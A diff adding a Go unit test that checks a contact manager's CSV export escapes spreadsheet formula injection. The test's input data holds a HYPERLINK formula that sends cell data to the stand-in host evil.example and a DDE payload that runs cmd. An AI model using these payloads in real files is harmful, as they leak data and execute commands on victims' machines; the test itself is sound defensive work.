@@ -275,6 +275,26 @@ func TestExportCSVReadsBack(t *testing.T) {
 	}
 }
 
+func TestExportCSVNeutralisesFormulas(t *testing.T) {
+	a := sqliteAlly(t)
+	hostile := `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	a.run(0, "person", "add", hostile, "--org", "-2+3+cmd|' /C calc'!A0", "--role", "@SUM(A1:A9)", "--phone", "+1 555 0100")
+	out := a.run(0, "export", "csv")
+	for _, want := range []string{`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`, `,'-2+3+cmd|' /C calc'!A0,`, ",'@SUM(A1:A9),", ",+1 555 0100,"} {
+		if !strings.Contains(out, want) {
+			t.Errorf("the export lacks %s:\n%s", want, out)
+		}
+	}
+	// Ally reads its own guard back.
+	var got []interop.Contact
+	if _, err := interop.ReadGoogleCSV(strings.NewReader(out), func(c interop.Contact) error {
+		got = append(got, c)
+		return nil
+	}); err != nil || len(got) != 1 || got[0].Name != hostile || got[0].Role != "@SUM(A1:A9)" {
+		t.Errorf("read back %+v, %v", got, err)
+	}
+}
+
 // TestExportedVCardsReadByKhardAndICALJS gives the exported cards to two
 // real address-book readers and checks every name, e-mail, phone,
 // organization and note survives.
